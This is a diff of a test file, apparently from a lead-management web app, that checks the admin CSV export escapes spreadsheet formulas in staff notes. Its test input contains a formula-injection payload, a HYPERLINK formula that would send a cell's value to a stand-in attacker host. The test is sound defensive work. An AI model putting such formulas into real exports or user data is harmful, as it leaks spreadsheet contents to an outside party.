@@ -658,13 +658,13 @@ for (const engine of engines()) {
     });
 
     test("the CSV export puts an apostrophe before every cell a spreadsheet would run as a formula, and keeps every payload's text", async () => {
-      // Staff notes are exported too.
+      // Staff notes are exported too (a note added on the lead's page).
       const [first] = await storedLeads();
       const notes = `=HYPERLINK("https://evil.example/?"&A1,"Open") ${PAYLOADS[0]}`;
       const saved = await postForm(
         s.server.url,
         `/Admin/leads/${first!.id}`,
-        { status: "contacted", notes },
+        { intent: "note", note: notes },
         { cookie: s.token },
       );
       expect(saved.status).toBe(200);
@@ -674,7 +674,10 @@ for (const engine of engines()) {
       expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
       const [header, ...rows] = parseCsv(await response.text());
       expect(header).toEqual(Object.keys(CSV_COLUMNS));
-      const leads = await withDatabase(s.databaseUrl, (db) => db.selectFrom("leads").selectAll().execute());
+      // The Notes column holds the notes added on the timeline.
+      const leads = (await withDatabase(s.databaseUrl, (db) => db.selectFrom("leads").selectAll().execute())).map(
+        (lead) => (lead.id === first!.id ? { ...lead, notes } : lead),
+      );
       expect(rows).toHaveLength(leads.length);
 
       const neutralised = (value: unknown) => {
